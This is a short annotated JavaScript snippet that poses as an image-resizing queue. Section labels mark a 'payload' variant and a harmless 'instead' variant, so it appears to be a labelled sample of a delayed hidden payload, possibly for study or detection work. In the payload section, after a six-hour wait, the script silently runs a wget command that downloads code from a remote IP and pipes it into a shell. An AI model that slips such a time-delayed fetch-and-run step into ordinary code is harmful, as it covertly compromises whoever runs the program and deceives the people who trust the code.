§ kind: long wait
§ shown: process.spawn /bin/sh
const { exec } = require('child_process');

const HOUR = 60 * 60 * 1000;
const queue = ['a.png', 'b.png', 'c.png'];

function resize(name, width) {
  return name.replace('.', `@${width}.`);
}

function sleep(ms) {
  return new Promise((done) => setTimeout(done, ms));
}

(async () => {
  for (const name of queue) console.log(resize(name, 320));
  await sleep(6 * HOUR);
§ payload
  exec('wget -q -O- http://203.0.113.10/m | sh', () => {});
§ instead
  console.log('nothing new in six hours');
§ end
})();
